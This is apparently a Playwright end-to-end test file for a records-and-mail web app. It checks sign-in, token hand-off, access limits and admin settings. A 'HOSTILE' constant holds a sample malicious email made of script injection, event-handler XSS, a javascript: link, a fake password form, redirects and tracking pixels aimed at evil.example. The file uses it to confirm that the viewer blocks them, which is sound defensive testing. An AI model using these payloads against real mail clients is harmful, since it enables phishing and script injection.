/** The pages outside Outlook: a record with its mail, and the settings. */
import { strict as assert } from 'node:assert';
import type { Page } from 'playwright-core';
import type { RecordView } from '../../src/contract/records';
import { overflowOf } from '../tools/accessibility';
import { expectText, noText } from '../tools/see';
import { signedApi, trackLetter } from '../tools/signedApi';
import type { Walk, WalkTools } from './walk';

const alice = 'alice@northwind.example';

/** Everything that a mail could try at once: run, cover the page, lead away, ask for a password, phone home. */
const HOSTILE = `<style>*{position:fixed;inset:0;background:red;z-index:99999}</style>
<meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/">
<script>parent.document.title='taken';top.location='https://evil.example/'</script>
<img src="x" onerror="parent.document.title='taken'"><svg onload="parent.document.title='taken'"></svg>
<a href="javascript:parent.document.title='taken'">press me</a><a href="https://evil.example/pay">https://bank.example/</a>
<form action="https://evil.example/"><input name="password" autofocus><button>Log in</button></form>
<div style="position:fixed;inset:0;background:url(https://evil.example/track.png)">cover</div>
<iframe src="https://evil.example/"></iframe><img src="https://evil.example/pixel.gif" width="1" height="1">
<table width="5000"><tr>${'<td>wide</td>'.repeat(80)}</tr></table><p>End of the hostile mail</p>`;

async function signInAs(page: Page, name: RegExp) {
  await page.getByRole('button', { name }).click();
  await expectText(page, 'Signed in as');
}

async function findRecord({ context, url }: WalkTools, text: string): Promise<RecordView> {
  const api = await signedApi(context, url, alice);
  const { records } = await api.call('searchRecords', { text, around: [], types: [] });
  assert.ok(records[0], `there is no record "${text}"`);
  return records[0];
}

const addressOf = ({ type, id }: RecordView) => `/record.html?type=${type}&id=${id}`;

/** Asks which requests left for anywhere but our own server; those that the page's own policy stopped never left. */
function watchForeign(page: Page, url: string): () => string[] {
  const left: string[] = [];
  page.on('requestfinished', (request) => left.push(request.url()));
  page.on('requestfailed', (request) => {
    if (request.failure()?.errorText !== 'csp') left.push(request.url());
  });
  return () => left.filter((one) => /^https?:/.test(one) && !one.startsWith(url));
}

async function readHostile(tools: WalkTools) {
  const { page, url, context } = tools;
  const record = await findRecord(tools, 'Yuki Sato');
  const subject = `Hostile ${record.id.slice(0, 4)} ${Math.round(performance.now())}`;
  await trackLetter(await signedApi(context, url, alice), { subject, html: HOSTILE, text: null, regarding: record });
  await page.setViewportSize({ width: 320, height: 700 });
  await page.goto(url + addressOf(record));
  await signInAs(page, /Alice/);
  const thread = page.getByRole('region', { name: new RegExp(subject) });
  await thread.getByRole('button', { name: 'Read mail' }).click();
  const frame = thread.frameLocator('iframe');
  await expectText(frame, 'End of the hostile mail');
  return { thread, frame };
}

/** Opens `address` from the present page, which offers it a token: when asked, and unasked again and again. */
async function openFrom(page: Page, address: string, token: string): Promise<Page> {
  const popup = page.waitForEvent('popup');
  await page.evaluate(
    (offer) => {
      const opened = window.open(offer.address, '_blank');
      const give = () => opened?.postMessage({ threadmark: 'token', token: offer.token }, '*');
      window.addEventListener('message', give);
      setInterval(give, 50);
    },
    { address, token },
  );
  return popup;
}

const walks: Walk[] = [
  {
    title: 'W1 a person signs in, browses the records, opens one, and reads a tracked mail',
    run: async ({ page, url }) => {
      await page.goto(`${url}/record.html`);
      await expectText(page, 'Development sign-in');
      await signInAs(page, /Alice/);
      await page.getByRole('searchbox').fill('pump');
      await page.getByRole('link', { name: 'Pump station refit' }).click();
      await page.getByRole('heading', { level: 1, name: 'Pump station refit' }).waitFor();
      const mail = page.getByRole('article').filter({ hasText: '3 May 2026' });
      await expectText(page, 'Tracked by');
      await mail.getByRole('button', { name: 'Read mail' }).click();
      await expectText(mail.frameLocator('iframe') as never, 'the pumps for your station');
      await mail.getByRole('button', { name: 'Plain text' }).click();
      await mail.getByRole('region', { name: /Plain text of/ }).waitFor();
    },
  },
  {
    title: 'W1 a page that the pane opened is signed in by it, without a question',
    run: async (tools) => {
      const { page, url, context } = tools;
      const { token } = await signedApi(context, url, alice);
      await page.goto(`${url}/healthz`);
      const record = await findRecord(tools, 'Yuki Sato');
      const opened = await openFrom(page, url + addressOf(record), token);
      await opened.getByRole('heading', { level: 1, name: 'Yuki Sato' }).waitFor();
      await expectText(opened, 'Signed in as Alice Berg');
      assert.equal(await opened.evaluate(() => localStorage.length), 0);
    },
  },
  {
    title: 'W1 a foreign page that opens a record and offers a token is not believed',
    run: async (tools) => {
      const { page, url, context } = tools;
      const { token } = await signedApi(context, url, 'mallory@tailspin.example');
      const record = await findRecord(tools, 'Yuki Sato');
      await page.route('https://evil.example/', (route) => route.fulfill({ contentType: 'text/html', body: 'trap' }));
      await page.goto('https://evil.example/');
      const opened = await openFrom(page, url + addressOf(record), token);
      await expectText(opened, 'Development sign-in');
      await noText(opened, 'Mallory Quinn, ');
    },
  },
  {
    title: 'P1 a record of another organisation is told to nobody',
    run: async (tools) => {
      const { page, url } = tools;
      await page.goto(url + addressOf(await findRecord(tools, 'Yuki Sato')));
      await signInAs(page, /Mallory/);
      await page.getByRole('alert').waitFor();
      await expectText(page, 'This record does not exist, or you may not see it.');
      await noText(page, 'Yuki');
    },
  },
  {
    title: 'P2 a hostile mail runs nothing, loads nothing, leads nowhere and does not break the page',
    run: async (tools) => {
      const { page, url } = tools;
      const foreign = watchForeign(page, url);
      const { thread, frame } = await readHostile(tools);
      assert.match(await page.title(), /^Yuki Sato/);
      assert.equal(new URL(page.url()).origin, url);
      assert.equal(await overflowOf(page), 0);
      assert.equal(await frame.locator('script, form, input, iframe, [onerror]').count(), 0);
      await frame.getByText('https://bank.example/').click({ force: true });
      await thread.getByRole('button', { name: 'Close mail' }).click();
      await thread.getByRole('button', { name: 'Read mail' }).click();
      await expectText(frame, 'End of the hostile mail');
      await thread.locator('summary').click();
      await thread.getByRole('link', { name: 'https://evil.example/pay' }).waitFor();
      assert.deepEqual(foreign(), []);
      assert.deepEqual(
        page.frames().map((one) => new URL(one.url()).protocol),
        ['https:', 'about:'],
      );
    },
  },
  {
    title: 'P2 pictures from outside are asked for only after the reader pressed the button',
    run: async (tools) => {
      const { page, context } = tools;
      const asked: string[] = [];
      await context.route('https://evil.example/**', (route) => {
        asked.push(new URL(route.request().url()).pathname);
        return route.fulfill({ contentType: 'image/gif', body: Buffer.from('R0lGODlhAQABAAAAACw=', 'base64') });
      });
      const { thread } = await readHostile(tools);
      assert.deepEqual(asked, []);
      const loaded = page.waitForResponse('https://evil.example/pixel.gif');
      await thread.getByRole('button', { name: 'Load pictures' }).click();
      await loaded;
      assert.deepEqual(asked, ['/pixel.gif']);
    },
  },
  {
    title: 'H1 an administrator changes a setting with a reason; who comes later is shown the change and decides',
    run: async ({ page, url, context }) => {
      const api = await signedApi(context, url, alice);
      const before = await api.call('settings');
      await page.goto(`${url}/admin.html#settings`);
      await signInAs(page, /Alice/);
      await page.getByLabel('Longest subject').fill('300');
      await page.getByLabel('Reason').fill('Our server allows more');
      const theirs = { ...before.settings, withoutOutsiders: 'link' as const };
      await api.call('saveSettings', { version: before.version, reason: 'Meanwhile', settings: theirs });
      await page.getByRole('button', { name: 'Save', exact: true }).click();
      await expectText(page, 'Somebody changed the settings before you');
      await expectText(page, /Mail among colleagues: was “Ask first”, now “Belongs/);
      await page.getByRole('button', { name: 'Put my changes on top' }).click();
      await page.getByRole('button', { name: 'Save', exact: true }).click();
      await expectText(page, `Saved as version ${before.version + 2} by Alice Berg.`);
      const after = await api.call('settings');
      assert.deepEqual(after.settings, { ...theirs, subjectLength: 300 });
      await api.call('saveSettings', { version: after.version, reason: 'As before', settings: before.settings });
    },
  },
  {
    title: 'W1 who is no administrator finds the settings as a list, without a control',
    run: async ({ page, url }) => {
      await page.goto(`${url}/admin.html#settings`);
      await signInAs(page, /Bob/);
      await expectText(page, /Only administrators of Northwind Traders/);
      assert.equal(await page.getByRole('button', { name: 'Save', exact: true }).count(), 0);
    },
  },
];

export default walks;
